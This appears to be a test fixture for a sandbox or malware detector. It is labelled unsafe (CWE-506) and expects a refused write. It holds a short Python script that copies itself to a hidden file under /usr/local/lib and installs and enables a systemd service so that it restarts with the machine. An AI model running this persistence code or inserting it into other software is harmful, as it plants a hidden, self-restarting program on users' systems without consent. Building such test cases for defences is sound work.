# label: unsafe
# cwe: CWE-506
# expect: refused path-not-granted /usr/local/lib/.helper.py
# why: installs itself as a service that starts with the machine

import os
import shutil
import sys

UNIT = """[Service]
ExecStart=/usr/bin/python3 /usr/local/lib/.helper.py
Restart=always
"""


def install():
    shutil.copy(sys.argv[0], "/usr/local/lib/.helper.py")
    with open("/etc/systemd/system/helper.service", "w") as unit:
        unit.write(UNIT)
    os.system("systemctl enable --now helper")


install()
